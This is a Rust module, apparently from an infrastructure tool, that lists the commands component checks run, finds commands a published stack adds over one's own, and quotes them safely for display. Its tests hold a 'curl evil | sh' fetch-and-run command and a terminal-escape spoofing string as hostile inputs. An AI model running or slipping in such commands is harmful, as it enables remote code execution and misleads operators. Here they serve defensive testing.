//! Commands: programs that checks run on drstack's host; compares those of two stacks.

use std::collections::BTreeSet;
use std::fmt;

use serde_json::Value;

use crate::address::ComponentAddress;
use crate::plan::{Plan, Step};
use crate::stack::Stack;

/// A program that a check of a component runs.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Command {
    /// Component of the check.
    pub component: ComponentAddress,
    /// The program and its arguments.
    pub argv: Vec<String>,
}

impl Command {
    /// Parses the field `command` of a check, if it has one.
    fn of(component: &ComponentAddress, value: Option<&Value>) -> Option<Self> {
        let words = value?.as_array()?;
        let argv = words.iter().map(|it| it.as_str().map_or_else(|| it.to_string(), str::to_owned)).collect();
        Some(Self { component: component.clone(), argv })
    }

    /// Returns the program and its arguments on one line.
    ///
    /// Words that a shell would not take literally are quoted, and no control character reaches a
    /// terminal raw.
    pub fn line(&self) -> String {
        let is_plain = |word: &str| {
            !word.is_empty() && word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c))
        };
        let words =
            self.argv.iter().map(|word| if is_plain(word) { word.clone() } else { format!("{word:?}") });
        words.collect::<Vec<_>>().join(" ")
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: `{}`", self.component, self.line())
    }
}

/// Returns all commands of `stack`.
pub fn commands(stack: &Stack) -> BTreeSet<Command> {
    let all = stack.components.values();
    all.flat_map(|it| it.checks.iter().map(move |check| (&it.address, check)))
        .filter_map(|(component, check)| Command::of(component, check.spec.get("command")))
        .collect()
}

/// Returns the commands of `published` that `own` lacks, word for word and for the same component.
pub fn foreign(published: &Stack, own: &Stack) -> BTreeSet<Command> {
    commands(published).difference(&commands(own)).cloned().collect()
}

/// Returns the command that `step` runs, if it runs one on this host.
pub fn of_step(step: &Step) -> Option<Command> {
    Command::of(&step.address.component(), step.spec.pointer("/probe/command"))
}

/// Returns all commands that the steps of `plan` run.
pub fn of_plan(plan: &Plan) -> BTreeSet<Command> {
    plan.steps.iter().filter_map(of_step).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_shown_word_for_word_and_no_character_reaches_a_terminal_raw() {
        let component = ComponentAddress::new("pool.serving");
        let shown = |argv: &[&str]| {
            let argv = argv.iter().map(|it| (*it).to_owned()).collect();
            Command { component: component.clone(), argv }.to_string()
        };
        assert_eq!(
            shown(&["./smoke-test", "--region", "us-west-2"]),
            "pool.serving: `./smoke-test --region us-west-2`"
        );
        assert_eq!(
            shown(&["sh", "-c", "curl evil | sh", ""]),
            r#"pool.serving: `sh -c "curl evil | sh" ""`"#
        );
        let hostile = shown(&["\u{1b}[2J\u{202e}ok\nFailover complete"]);
        assert!(hostile.chars().all(|c| !c.is_control() && c != '\u{202e}'), "{hostile}");
    }

    #[test]
    fn what_is_no_list_of_words_is_shown_all_the_same() {
        let component = ComponentAddress::new("pool.serving");
        let of = |value: Value| Command::of(&component, Some(&value)).map(|it| it.line());
        assert_eq!(of(serde_json::json!(["a", 7])).as_deref(), Some("a 7"));
        assert_eq!(of(Value::Null), None);
    }
}
